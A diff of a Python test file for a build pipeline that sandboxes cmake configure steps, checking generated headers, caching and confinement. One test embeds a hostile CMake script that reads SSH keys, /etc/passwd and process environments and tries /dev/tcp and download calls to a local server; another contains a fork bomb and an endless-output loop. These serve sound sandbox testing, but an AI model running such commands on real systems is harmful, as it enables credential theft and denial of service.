@@ -1,5 +1,7 @@
-"""Configuring runs what a source says: without network, with one folder to write to, or not at all."""
+"""A source that cmake configures: what configuring makes is compiled with, remembered, and told from what the source holds."""
 
+import json
+import re
 import socket
 import sys
 from pathlib import Path
@@ -9,42 +11,69 @@ import pytest
 from pipeline.build_block import BuildBlock
 from pipeline.enrich.lane.lane import Lane, Source, read_lane
 from pipeline.enrich.lane.params import LaneParams
-from pipeline.enrich.lane.sandbox import Limits, run_confined
 from pipeline.enrich.lane.tools import tool_versions
 
-LIMITS = Limits(cpu_seconds=20, wall_seconds=60, memory_bytes=4 << 30)
+pytestmark = pytest.mark.usefixtures("sandbox")
+ENVIRONMENT = {
+    *("HOME", "LC_ALL", "PATH", "SOURCE_DATE_EPOCH", "TMPDIR", "TZ", "XDG_CACHE_HOME", "PWD", "OLDPWD", "SHLVL", "_"),
+    *("ZIG_GLOBAL_CACHE_DIR", "ZIG_LOCAL_CACHE_DIR"),
+    *("CC", "CXX", "LANG", "LC_MESSAGES"),  # set by cmake
+}
 BEGIN = "cmake_minimum_required(VERSION 3.20)\nproject(made CXX)\n"
+UNIT = b'#include "made.h"\nint a = MADE + GIVEN;\n'
 
 
-def is_granted(folder: Path) -> bool:
-    return run_confined(["/bin/true"], folder, ["/bin"], LIMITS).failure != "no_sandbox"
-
-
-def lane_of(script: str, cache: Path | None = None, **others: str) -> Lane:
-    texts = {"src/a.cpp": b'#include "made.h"\nint a = MADE + GIVEN;\n'}
+def lane_of(script: str, cache: Path | None = None, texts: dict[str, bytes] | None = None, **others: str) -> Lane:
+    texts = texts or {"src/a.cpp": UNIT}
     files = {"CMakeLists.txt": (BEGIN + script).encode(), **{name: text.encode() for name, text in others.items()}}
     block = BuildBlock(cmake=True, options=("-DWANTED=3",))
     return read_lane(Source("made", {**files, **texts}, texts), block, LaneParams(), tool_versions(cmake=True), cache)
 
 
-def test_a_configured_source_is_compiled_with_what_configuring_made(tmp_path: Path) -> None:
-    if not is_granted(tmp_path):
-        pytest.skip("this kernel grants no namespaces")
+def test_a_configured_source_is_compiled_with_what_configuring_made() -> None:
     lane = lane_of(
         'file(WRITE "${CMAKE_BINARY_DIR}/made.h" "#define MADE 1\\n")\nadd_library(made src/a.cpp)\n'
         "target_include_directories(made PRIVATE ${CMAKE_BINARY_DIR})\ntarget_compile_definitions(made PRIVATE GIVEN=${WANTED})\n"
     )
 
     assert (lane.view("src/a.cpp").is_seen, lane.view("src/a.cpp").detail, lane.notes) == (True, "", [])
-    assert lane.view("src/a.cpp").context == (
-        '{"compiler": "clang", "defines": ["GIVEN=3"], "include_roots": ["<build>"], "unit": "src/a.cpp"}'
-    )
+    assert json.loads(lane.view("src/a.cpp").context or "") == {
+        "compiler": "clang",
+        "defines": ["GIVEN=3"],
+        "generated": ["<build>/made.h"],
+        "include_roots": ["<build>"],
+        "unit": "src/a.cpp",
+    }
     assert lane.counts["num_local_paths_in_context"] == 0
 
 
-def test_a_configure_that_fails_says_why_and_costs_the_lane_alone(tmp_path: Path) -> None:
-    if not is_granted(tmp_path):
-        pytest.skip("this kernel grants no namespaces")
+ABSOLUTE = """
+file(WRITE "${CMAKE_BINARY_DIR}/gen/inner.h" "#include \\"${CMAKE_SOURCE_DIR}/src/own.h\\"\\n#define MADE OWN\\n")
+file(WRITE "${CMAKE_BINARY_DIR}/gen/made.h" "#include \\"${CMAKE_BINARY_DIR}/gen/inner.h\\"\\n")
+file(WRITE "${CMAKE_SOURCE_DIR}/src/beside.h" "#define GIVEN 2\\n")
+file(WRITE "${CMAKE_SOURCE_DIR}/src/a.cpp" "// moved by what configuring writes\\nint b;\\n")
+add_library(made src/a.cpp)
+target_include_directories(made PRIVATE ${CMAKE_BINARY_DIR}/gen)
+target_compile_options(made PRIVATE -include ${CMAKE_SOURCE_DIR}/src/beside.h)
+"""
+
+
+def test_what_was_made_is_found_by_its_absolute_path_and_beside_the_source_and_changes_no_document(
+    tmp_path: Path,
+) -> None:
+    texts = {"src/a.cpp": UNIT.replace(b"GIVEN", b"(GIVEN)"), "src/own.h": b"#define OWN 7\nint own();\n"}
+    texts["src/a.cpp"] += b'#include "/tmp/sluice/build/gen/inner.h"\n'
+    lanes = [lane_of(ABSOLUTE, tmp_path, texts) for _ in range(2)]
+
+    (view, own), context = map(lanes[0].view, texts), json.loads(lanes[0].view("src/a.cpp").context or "")
+    assert (view.detail, own.detail, lanes[0].counts["num_missing_includes"]) == ("", "", 0)
+    assert [texts["src/a.cpp"][start:end] for start, end, *_ in view.mentions] == [b"a"]
+    assert context["generated"] == ["<build>/gen/inner.h", "<build>/gen/made.h", "src/beside.h"]
+    assert lanes[0].counts["num_local_paths_in_context"] == 0
+    assert lanes[0].views == lanes[1].views  # from memory too
+
+
+def test_a_configure_that_fails_says_why_and_costs_the_lane_alone() -> None:
     lane = lane_of("add_subdirectory(examples)\n")
 
     assert lane.view("src/a.cpp").detail == "tool_failed: failed"
@@ -52,50 +81,7 @@ def test_a_configure_that_fails_says_why_and_costs_the_lane_alone(tmp_path: Path
     assert "/tmp" not in lane.notes[0]
 
 
-def test_a_confined_command_reaches_no_network_and_writes_to_its_folder_alone(tmp_path: Path) -> None:
-    inside, outside = tmp_path / "inside", tmp_path / "outside"
-    inside.mkdir()
-    outside.mkdir()
-    if not is_granted(inside):
-        pytest.skip("this kernel grants no namespaces")
-    server = socket.create_server(("127.0.0.1", 0))
-    script = f"""
-import os, socket
-for name, act in {{
-    "inside": lambda: open({str(inside / "x")!r}, "w"),
-    "outside": lambda: open({str(outside / "x")!r}, "w"),
-    "temporary": lambda: open("/tmp/sluice-confined", "w"),
-    "network": lambda: socket.create_connection(("127.0.0.1", {server.getsockname()[1]}), 5),
-    "mount": lambda: os.chmod("/", 0o755),
-}}.items():
-    try:
-        act()
-        print(name, "done")
-    except OSError as error:
-        print(name, "refused")
-print(sorted(os.environ))
-"""
-    run = run_confined([sys.executable, "-I", "-c", script], inside, ["/bin"], LIMITS)
-    server.close()
-
-    *done, environment = run.output.splitlines()
-    assert done == ["inside done", "outside refused", "temporary refused", "network refused", "mount refused"]
-    assert "SLUICE_STORE" not in environment
-    assert list(outside.iterdir()) == []
-
-
-def test_what_takes_too_long_is_ended_with_all_that_it_started(tmp_path: Path) -> None:
-    if not is_granted(tmp_path):
-        pytest.skip("this kernel grants no namespaces")
-    limits = Limits(cpu_seconds=1, wall_seconds=30, memory_bytes=1 << 30)
-    assert run_confined([sys.executable, "-c", "while True: pass"], tmp_path, ["/bin"], limits).failure == "failed"
-    asleep = Limits(cpu_seconds=5, wall_seconds=1, memory_bytes=1 << 30)
-    assert run_confined(["/bin/sleep", "600"], tmp_path, ["/bin"], asleep).failure == "timeout"
-
-
 def test_what_was_configured_is_remembered_until_a_file_of_the_source_changes(tmp_path: Path) -> None:
-    if not is_granted(tmp_path):
-        pytest.skip("this kernel grants no namespaces")
     cache = tmp_path / "units"
     script = (
         'string(RANDOM LENGTH 20 drawn)\nfile(WRITE "${CMAKE_BINARY_DIR}/made.h" "#define MADE 1 // ${drawn}\\n")\n'
@@ -113,14 +99,56 @@ def test_what_was_configured_is_remembered_until_a_file_of_the_source_changes(tm
     assert lane_of(script, cache).views != first.views  # a damaged memory is none
 
 
-def test_a_confined_command_finds_no_files_of_the_user(tmp_path: Path) -> None:
-    if not is_granted(tmp_path):
-        pytest.skip("this kernel grants no namespaces")
-    inside, secret = tmp_path / "inside", tmp_path / "secret.txt"
-    inside.mkdir()
-    secret.write_text("hidden")
-    asked = f"os.path.exists({str(secret)!r}), os.listdir(os.path.expanduser('~')), os.listdir('/home'), os.getcwd()"
-    look = f"import os; print({asked})"
-    run = run_confined([sys.executable, "-I", "-c", look], inside, ["/bin"], LIMITS)
+def test_a_hostile_script_gets_nothing_and_what_it_does_is_gone(tmp_path: Path) -> None:
+    """All that it finds out, it writes into a header that is compiled."""
+    server = socket.create_server(("127.0.0.1", 0))
+    server.setblocking(False)
+    home, outside = Path.home(), tmp_path / "outside"
+    script = f"""
+execute_process(COMMAND sh -c "cat {home}/.ssh/* {home}/.*rc /etc/passwd ~/.ssh/*" OUTPUT_VARIABLE keys ERROR_QUIET)
+execute_process(COMMAND sh -c "env; cat /proc/*/environ" OUTPUT_VARIABLE environment ERROR_QUIET)
+execute_process(COMMAND sh -c "echo x > {outside}; echo x > {home}/x; echo x > /usr/x; umount /tmp; unshare -rm true && echo held"
+  OUTPUT_VARIABLE held ERROR_QUIET)
+file(DOWNLOAD "http://127.0.0.1:{server.getsockname()[1]}/x" "${{CMAKE_BINARY_DIR}}/x.h" TIMEOUT 5 STATUS status)
+execute_process(COMMAND sh -c "exec 3<>/dev/tcp/127.0.0.1/{server.getsockname()[1]} && echo held" OUTPUT_VARIABLE more ERROR_QUIET)
+cmake_host_system_information(RESULT host QUERY HOSTNAME)
+list(GET status 0 code)
+file(WRITE "${{CMAKE_BINARY_DIR}}/made.h" "/* [${{keys}}] [${{held}}${{more}}] [${{host}}] */\\nint status_${{code}};\\n")
+file(APPEND "${{CMAKE_BINARY_DIR}}/made.h" "#define MADE 1\\n")
+file(WRITE "${{CMAKE_BINARY_DIR}}/environment.h" "/* ${{environment}} */")
+add_library(made src/a.cpp)
+target_include_directories(made PRIVATE ${{CMAKE_BINARY_DIR}})
+target_compile_definitions(made PRIVATE GIVEN=1 SEEN="${{keys}}${{held}}${{more}}" HOST="${{host}}")
+"""
+    lane = lane_of(script, tmp_path / "cache")
+    with pytest.raises(BlockingIOError):
+        server.accept()
+    server.close()
 
-    assert run.output.splitlines() == ["False [] [] /tmp/sluice"]
+    (entry,) = (tmp_path / "cache").glob("*.configured")
+    made = json.loads(entry.read_text())["files"]
+    assert lane.view("src/a.cpp").is_seen
+    assert made["build/made.h"].splitlines()[0] == "/* [] [] [sluice] */"
+    assert "status_0;" not in made["build/made.h"]
+    assert set(re.findall(r"^\W*(\w+)=", made["build/environment.h"], re.MULTILINE)) <= ENVIRONMENT
+    assert not outside.exists()
+    assert not Path(home, "x").exists()
+
+
+@pytest.mark.parametrize(
+    ("script", "failure"),
+    [
+        ('execute_process(COMMAND sh -c "bomb() { bomb | bomb & }; bomb; sleep 60")\n', "too_many_processes"),
+        (
+            'execute_process(COMMAND sh -c "while true; do echo endless endless endless endless; done")\n',
+            "endless_output",
+        ),
+        ('execute_process(COMMAND truncate -s 3G "${CMAKE_BINARY_DIR}/x" COMMAND_ERROR_IS_FATAL ANY)\n', "failed"),
+    ],
+)
+def test_a_script_without_end_costs_its_lane_and_says_so(script: str, failure: str) -> None:
+    lane = lane_of(script)
+
+    assert lane.view("src/a.cpp").detail == f"tool_failed: {failure}"
+    assert f"({failure})" in lane.notes[0]
+    assert lane.counts[f"num_lanes_failed_{failure}"] == 1
